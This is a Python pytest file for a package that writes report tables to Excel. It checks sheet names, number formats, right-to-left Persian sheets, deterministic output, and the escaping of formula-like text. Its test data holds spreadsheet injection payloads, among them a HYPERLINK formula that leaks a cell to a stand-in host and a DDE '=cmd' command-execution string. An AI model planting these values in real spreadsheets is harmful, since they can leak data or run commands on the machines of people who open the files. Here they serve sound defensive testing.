"""The Excel workbook: layout, values, formats, formula neutralisation, determinism."""

from __future__ import annotations

import math
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from peereval.errors import PeerevalError
from peereval.report import Report, Section, Table, write_workbook
from peereval.report._excel import FORMULA_PREFIXES, neutralise_text, sheet_names

INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1, "click")', "+1", "-2+3",
              "@SUM(A1)", "\tnext", "\r=1+1", " =1+1", "＝1+1"]


def _report() -> Report:
    outcomes = pd.DataFrame({
        "group": ["mentored", "not mentored", "all"],
        "n": [163, 137, 300],
        "mean": [3.2412345678, 2.8512, np.nan],
        "difference": [-2.5, 0.4, np.nan],
        "p": [0.0004, 0.2345678, np.nan],
        "pct_passed": [0.89, 0.6012, 0.76],
        "exam": [691.23, 581.0, 645.5],
    })
    comments = pd.DataFrame({"comment": [*INJECTIONS, "Very helpful, thanks!", None],
                             "n": list(range(1, len(INJECTIONS) + 3))})
    persian = pd.DataFrame({"گویه": ["منتور من در دسترس بود", "احساس تعلق داشتم"],
                            "میانگین": [4.1, 3.7], "نظر": ["خیلی خوب بود", "عالی"]})
    reliability = pd.DataFrame({"alpha": [0.8712, 0.79], "omega": [0.88, 0.8]},
                               index=pd.Index(["support", "adjustment"], name="scale"))
    return Report(
        title="Near-peer mentoring: outcomes",
        subtitle="Synthetic sample study",
        sections=[
            Section("outcomes", "Did mentoring help?", tables=[
                Table("outcomes", "Academic outcomes by group", outcomes,
                      note="Means of year-1 GPA.\nGroups under 10 students suppressed.",
                      roles={"pct_passed": "share"}),
                Table("reliability", "Reliability", reliability, index=True)]),
            Section("comments", "Comments", tables=[
                Table("comments", "Free-text comments", comments),
                Table("persian", "نظرات دانشجویان", persian),
                Table("Comments", "Same key, other case", comments.head(2)),
                Table("a/b: c?[x]*" + "y" * 40, "Awkward key", comments.head(1)),
                Table("empty", "Nothing here", pd.DataFrame({"a": []}))]),
        ],
        references=[],
        warnings=["=cmd|' /C calc'!A0 in a warning", "Heywood case in the CFA"],
        meta={"min_cell": 10, "version": "0.1.0.dev0"},
    )


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Report]:
    report = _report()
    path = tmp_path_factory.mktemp("xlsx") / "tables.xlsx"
    assert write_workbook(report, path) == path
    return path, report


@pytest.fixture(scope="module")
def book(written: tuple[Path, Report]) -> openpyxl.Workbook:
    return openpyxl.load_workbook(written[0])


def _table_values(sheet, frame: pd.DataFrame, start_row: int = 4) -> list[list]:
    rows = sheet.iter_rows(min_row=start_row, max_row=start_row + len(frame) - 1,
                           max_col=frame.shape[1], values_only=True)
    return [list(r) for r in rows]


def test_sheet_names_are_excel_safe_unique_and_in_order(book):
    names = book.sheetnames
    assert names[:4] == ["Contents", "outcomes", "reliability", "comments"]
    assert names[4] == "persian"
    assert names[5] == "Comments_2"  # Excel compares sheet names ignoring case
    assert names[6] == ("a_b_ c__x__" + "y" * 40)[:31]
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == len(names)


def test_contents_links_every_sheet_and_states_the_rules(book, written):
    sheet = book["Contents"]
    assert sheet["A1"].value == "Near-peer mentoring: outcomes"
    assert sheet["A2"].value == "Synthetic sample study"
    assert [c.value for c in sheet[4]][:4] == ["Sheet", "Table", "Section", "Rows"]
    links = {}
    for row in sheet.iter_rows(min_row=5):
        if row[0].hyperlink is not None:
            links[row[0].value] = (row[0].hyperlink.location, row[1].value, row[2].value,
                                   row[3].value)
    assert list(links) == book.sheetnames[1:]
    assert links["outcomes"] == ("'outcomes'!A1", "Academic outcomes by group",
                                 "Did mentoring help?", 3)
    assert links["persian"][1] == "نظرات دانشجویان"
    texts = [c.value for c in sheet["A"] if isinstance(c.value, str)]
    assert any("fewer than 10 students" in t for t in texts)
    assert "'=cmd|' /C calc'!A0 in a warning" in texts
    assert "Heywood case in the CFA" in texts
    assert sheet.freeze_panes == "A5"


def test_table_sheet_layout_values_and_formats(book, written):
    _, report = written
    frame = report.tables()[0].frame
    sheet = book["outcomes"]
    assert sheet["A1"].value == "Academic outcomes by group"
    assert sheet["A1"].font.bold
    assert [c.value for c in sheet[3]] == list(frame.columns)
    assert all(c.font.bold for c in sheet[3])
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:G6"
    expected = frame.astype(object).where(frame.notna(), None).values.tolist()
    assert _table_values(sheet, frame) == expected  # full precision, NaN -> empty
    assert sheet["C4"].value == 3.2412345678
    formats = {c.column_letter: c.number_format for c in sheet[4]}
    assert formats == {"A": "General", "B": "0", "C": "0.00", "D": "0.0",
                       "E": '[<0.001]"< .001";[>0.999]"> .999";.000', "F": "0.0%", "G": "0.0"}
    assert sheet["D4"].value == -2.5
    assert sheet["D4"].data_type == "n"
    assert sheet["A8"].value == "Means of year-1 GPA."
    assert sheet["A9"].value == "Groups under 10 students suppressed."
    assert sheet["A8"].font.italic
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["A"] >= len("not mentored")
    assert widths["A"] <= 60


def test_index_is_written_and_frozen(book):
    sheet = book["reliability"]
    assert [c.value for c in sheet[3]] == ["scale", "alpha", "omega"]
    assert [c.value for c in sheet["A"][3:5]] == ["support", "adjustment"]
    assert sheet.freeze_panes == "B4"
    assert sheet["B4"].value == 0.8712


def test_formula_like_text_is_neutralised_but_numbers_stay_numbers(book, written):
    sheet = book["comments"]
    values = [sheet.cell(4 + i, 1).value for i in range(len(INJECTIONS))]
    # a carriage return reads back as a line feed from the standard library's XML
    # parser, and as itself from lxml (which openpyxl uses when installed)
    assert [v.replace("\r", "\n") for v in values] == [
        "'" + text.replace("\r", "\n") for text in INJECTIONS]
    assert sheet.cell(4 + len(INJECTIONS), 1).value == "Very helpful, thanks!"
    assert sheet.cell(5 + len(INJECTIONS), 1).value is None
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.coordinate
    raw = zipfile.ZipFile(written[0]).read("xl/worksheets/sheet4.xml")
    assert b"<f>" not in raw


def test_persian_table_is_right_to_left(book):
    assert book["persian"].sheet_view.rightToLeft
    assert not book["outcomes"].sheet_view.rightToLeft
    assert not book["Contents"].sheet_view.rightToLeft


def test_empty_table_says_so(book):
    sheet = book["empty"]
    assert [c.value for c in sheet[3]] == ["a"]
    assert sheet["A5"].value == "(no rows)"


def test_same_report_gives_identical_bytes(written, tmp_path):
    first, report = written
    second = write_workbook(report, tmp_path / "again.xlsx")
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(second) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "1980-01-01T00:00:00Z</dcterms:created>" in core
    assert "1980-01-01T00:00:00Z</dcterms:modified>" in core


def test_tables_and_dataframes_are_accepted(tmp_path):
    frame = pd.DataFrame({"x": [1, 2**60], "y": [np.inf, -1.25]})
    path = write_workbook({"big": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path)["big"]
    assert sheet["A5"].value == str(2**60)  # beyond 2^53 a number would lose digits
    assert sheet["B4"].value == "∞"
    assert sheet["B5"].value == -1.25
    book = openpyxl.load_workbook(write_workbook(Table("t", "T", frame), tmp_path / "u.xlsx"))
    assert book.sheetnames == ["Contents", "t"]
    assert book["Contents"]["A1"].value == "peereval tables"


@pytest.mark.parametrize(("tables", "path", "message"), [
    ("not tables", "t.xlsx", "cannot write a str"),
    ([pd.DataFrame()], "t.xlsx", "not a Table"),
    ([Table("k", "K", [1, 2])], "t.xlsx", "not a DataFrame"),
    ([], "t.csv", "must end in .xlsx"),
    ([], "missing/t.xlsx", "does not exist"),
])
def test_bad_input_raises_peereval_error(tmp_path, tables, path, message):
    with pytest.raises(PeerevalError, match=message):
        write_workbook(tables, tmp_path / path)


def test_min_cell_must_be_positive(tmp_path):
    with pytest.raises(PeerevalError, match="min_cell"):
        write_workbook([], tmp_path / "t.xlsx", min_cell=0)


def test_sheet_names_handle_reserved_and_long_duplicates():
    names = sheet_names(["History", "'quoted'", "", "z" * 40, "z" * 40])
    assert names == ["History_", "quoted", "table", "z" * 31, "z" * 29 + "_2"]


@given(st.text(max_size=60))
def test_neutralised_text_never_starts_a_formula(text):
    safe = neutralise_text(text)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert not safe.lstrip(" \u00a0").startswith(FORMULA_PREFIXES)
    if safe != text:
        assert safe.startswith("'") or "\ufffd" in safe


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_does_not_evaluate_neutralised_cells_even_via_csv(written, tmp_path):
    """xlsx -> CSV -> reopen (the way formulas usually sneak in) keeps them text."""
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"

    def convert(source: Path, target: str, outdir: Path) -> Path:
        subprocess.run(["soffice", profile, "--headless", "--convert-to", target,
                        "--outdir", str(outdir), str(source)], check=True,
                       capture_output=True, timeout=120)
        return outdir / (source.stem + "." + target.split(":")[0])

    book = tmp_path / "comments.xlsx"
    frame = pd.DataFrame({"comment": ["=1+1", "=HYPERLINK(\"http://x\",\"y\")", "-2+3"],
                          "value": [-2.5, 1.0, 2.0]})
    write_workbook({"comments": frame}, book)
    # keep only the comments sheet so that LibreOffice's CSV holds it
    wb = openpyxl.load_workbook(book)
    del wb["Contents"]
    wb.save(book)
    first = convert(book, "csv", tmp_path / "a")
    again = convert(convert(first, "xlsx", tmp_path / "b"), "csv", tmp_path / "c")
    for csv in (first, again):
        lines = csv.read_text(encoding="utf-8").splitlines()
        body = "\n".join(lines)
        assert "'=1+1" in body
        assert "'-2+3" in body
        assert not any(line.startswith(("2,", "y,", "1,")) for line in lines), body
        assert "-2.5" in body
    assert math.isclose(float(lines[3].split(",")[-1]), -2.5)
